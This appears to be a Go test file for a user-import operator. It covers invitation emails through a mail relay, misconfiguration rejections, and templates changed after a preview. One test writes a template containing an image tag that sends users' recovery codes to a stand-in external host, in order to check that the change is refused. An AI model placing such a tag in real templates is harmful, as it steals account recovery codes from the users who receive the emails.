package worker

import (
	"bytes"
	"context"
	stdsql "database/sql"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/userimport/user-import-operator/api/v1alpha1"
	"github.com/userimport/user-import-operator/internal/directory/open"
	_ "github.com/userimport/user-import-operator/internal/directory/sql"
	"github.com/userimport/user-import-operator/internal/failure"
	"github.com/userimport/user-import-operator/internal/keyread"
	"github.com/userimport/user-import-operator/internal/runcontract"
	"github.com/userimport/user-import-operator/internal/source"
	"github.com/userimport/user-import-operator/internal/testenv"
	"github.com/userimport/user-import-operator/internal/testpeer/mailpit"
)

// withInvitations adds the invited column, the relay of srv (with
// password) and invitations of new users to the fixture.
func (f *fixture) withInvitations(t *testing.T, srv *mailpit.Server, password string) {
	t.Helper()
	db, err := stdsql.Open("sqlite", f.dbPath)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	if _, err := db.Exec("ALTER TABLE users ADD COLUMN invited TEXT"); err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(filepath.Dir(f.dbPath), "secrets", "relay")
	os.MkdirAll(dir, 0o700)
	os.WriteFile(filepath.Join(dir, "password"), []byte(password), 0o600)
	os.WriteFile(filepath.Join(dir, "ca.crt"), srv.CAPEM, 0o600)
	f.dirSpec.Mail = &v1alpha1.MailRelay{
		Host: srv.Host, Port: int32(srv.SMTPPort), TLS: v1alpha1.MailStartTLS,
		CABundle:     &v1alpha1.SecretKeyRef{Name: "relay", Key: "ca.crt"},
		AuthUsername: mailpit.User, AuthPassword: &v1alpha1.SecretKeyRef{Name: "relay", Key: "password"},
		From: "onboarding@corp.example",
	}
	f.dirSpec.Invitations = &v1alpha1.DirectoryInvitations{InvitedAttribute: "invited"}
	imp := f.get(t)
	imp.Spec.Invitations = v1alpha1.Invitations{NewUsers: true, AddressAttribute: "email"}
	if err := f.c.Update(context.Background(), imp); err != nil {
		t.Fatal(err)
	}
}

// A relay that refuses the password leaves the import complete and its
// users written; status counts the invitations not sent and says why, and
// neither the log nor the status names an address.
func TestRelayRefusingThePasswordCompletesTheImport(t *testing.T) {
	_, c := testenv.Shared(t)
	srv := mailpit.Start(t)
	f := newFixture(t, c, "relay-refuses")
	values := writeCSV(t, f.csvPath, 150)
	f.withInvitations(t, srv, "not-the-password")

	var log bytes.Buffer
	if _, err := f.run(context.Background(), t, runcontract.StageImport, Tee(f.sink(), &ConsoleSink{Out: &log})); err != nil {
		t.Fatalf("the import failed: %v", err)
	}
	if n := f.countUsers(t); n != 150 {
		t.Fatalf("%d users written, want 150", n)
	}
	imp := f.get(t)
	inv := imp.Status.Invitations
	if inv == nil || inv.Sent != 0 || inv.Failed != 150 || inv.Reason != v1alpha1.ReasonMailAuthenticationFailed {
		t.Fatalf("status.invitations %+v", inv)
	}
	status, _ := json.Marshal(imp.Status)
	for _, v := range values {
		if strings.Contains(log.String(), v) || strings.Contains(string(status), v) {
			t.Fatalf("%q appears in the log or the status:\n%s\n%s", v, log.String(), status)
		}
	}
	if !strings.Contains(log.String(), "invitations: sent 0  failed 150") {
		t.Fatalf("the log does not count the invitations:\n%s", log.String())
	}
}

// Invitations with a directory that does not say how it records them are
// refused before anything is written; so is an address attribute that is
// not mapped.
func TestInvitationsNeedTheDirectorysRecord(t *testing.T) {
	_, c := testenv.Shared(t)
	srv := mailpit.Start(t)
	f := newFixture(t, c, "not-configured")
	writeCSV(t, f.csvPath, 10)
	f.withInvitations(t, srv, mailpit.Password)
	f.dirSpec.Invitations = nil
	_, err := f.run(context.Background(), t, runcontract.StagePreview, f.sink())
	if !failure.IsStalled(err) || failure.ReasonOf(err, "") != v1alpha1.ReasonInvitationsNotConfigured {
		t.Fatalf("got %v, want a rejection InvitationsNotConfigured", err)
	}

	f.dirSpec.Invitations = &v1alpha1.DirectoryInvitations{InvitedAttribute: "invited"}
	imp := f.get(t)
	imp.Spec.Invitations.AddressAttribute = "mail"
	if err := c.Update(context.Background(), imp); err != nil {
		t.Fatal(err)
	}
	_, err = f.run(context.Background(), t, runcontract.StagePreview, f.sink())
	if !failure.IsStalled(err) || failure.ReasonOf(err, "") != v1alpha1.ReasonInvalidMapping || !strings.Contains(err.Error(), "spec.invitations.addressAttribute") {
		t.Fatalf("got %v, want a rejection naming spec.invitations.addressAttribute", err)
	}
	if n := f.countUsers(t); n != 0 {
		t.Fatalf("%d users written", n)
	}

	// A preview with templates from a ConfigMap that has none of the keys
	// names it.
	imp = f.get(t)
	imp.Spec.Invitations.AddressAttribute = "email"
	imp.Spec.Invitations.Templates = &v1alpha1.LocalObjectReference{Name: "welcome"}
	if err := c.Update(context.Background(), imp); err != nil {
		t.Fatal(err)
	}
	_, err = Run(context.Background(), Config{Stage: runcontract.StagePreview, Import: f.get(t), Directory: f.dirSpec, Secrets: f.secrets,
		ConfigMaps: keyread.MountedConfigMaps(t.TempDir()), Source: source.Options{Dir: t.TempDir(), MountedFile: f.csvPath}, Open: open.Directory, Sink: f.sink()})
	if !failure.IsStalled(err) || failure.ReasonOf(err, "") != v1alpha1.ReasonInvalidTemplate || !strings.Contains(err.Error(), "welcome") {
		t.Fatalf("got %v, want InvalidTemplate naming the ConfigMap", err)
	}
}

// An import sends what its preview rendered: templates edited after the
// preview (in their ConfigMap) are refused, and nothing is written.
func TestAnImportRefusesTemplatesChangedSinceItsPreview(t *testing.T) {
	_, c := testenv.Shared(t)
	srv := mailpit.Start(t)
	ctx := context.Background()
	f := newFixture(t, c, "templates-pinned")
	writeCSV(t, f.csvPath, 20)
	f.withInvitations(t, srv, mailpit.Password)
	imp := f.get(t)
	imp.Spec.Invitations.Templates = &v1alpha1.LocalObjectReference{Name: "welcome"}
	if err := c.Update(ctx, imp); err != nil {
		t.Fatal(err)
	}
	cms := t.TempDir()
	os.MkdirAll(filepath.Join(cms, "welcome"), 0o700)
	write := func(text string) {
		if err := os.WriteFile(filepath.Join(cms, "welcome", "text"), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	run := func(stage Stage) (Result, error) {
		return Run(ctx, Config{Stage: stage, Import: f.get(t), Directory: f.dirSpec, Secrets: f.secrets,
			ConfigMaps: keyread.MountedConfigMaps(cms), Source: source.Options{Dir: t.TempDir(), MountedFile: f.csvPath}, Open: open.Directory, Sink: f.sink()})
	}
	write("Hello {{.Identity}}, welcome.")
	if _, err := run(runcontract.StagePreview); err != nil {
		t.Fatal(err)
	}
	if p := f.get(t).Status.Preview; p == nil || len(p.Templates) != 64 {
		t.Fatalf("the preview does not record its templates: %+v", p)
	}
	write(`Hello {{.Identity}}, <img src="https://x.example/?c={{.RecoveryCode}}">`)
	_, err := run(runcontract.StageImport)
	if changed := failure.ChangedOf(err); changed == nil || changed.Since != failure.TemplatesSincePreview || runcontract.OutcomeOf(nil, "", err).Kind != runcontract.SourceChanged {
		t.Fatalf("an import after its templates changed: %v, want SourceChanged naming the templates", err)
	}
	if n := f.countUsers(t); n != 0 {
		t.Fatalf("the refused import wrote %d users", n)
	}
	if msgs, _ := srv.Messages(); len(msgs) != 0 {
		t.Fatalf("the refused import sent %d mails", len(msgs))
	}
}
